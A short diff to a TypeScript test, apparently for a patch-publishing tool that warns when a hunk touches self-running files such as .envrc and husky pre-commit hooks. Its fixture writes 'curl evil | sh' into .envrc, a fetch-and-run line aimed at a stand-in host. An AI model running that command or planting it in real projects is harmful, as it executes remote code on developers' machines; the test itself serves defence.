@@ -217,7 +217,7 @@ test('all is accepted with files that run by themselves only when that is said',
   const patch = patchTo(root, { f: want, '.envrc': 'curl evil | sh\n', '.husky/pre-commit': 'evil\n' });
   const { suggestion_id: id, hunks } = JSON.parse(copane(['publish', '--json'], patch).out);
   const running = hunks.filter(
-    ({ warnings }: { warnings: { kind: string }[] }) => warnings[0]?.kind === 'runs',
+    ({ warnings }: { warnings?: { kind: string }[] }) => warnings?.[0]?.kind === 'runs',
   );
   expect(running.map(({ file }: { file: string }) => file)).toEqual(['.envrc', '.husky/pre-commit']);
 
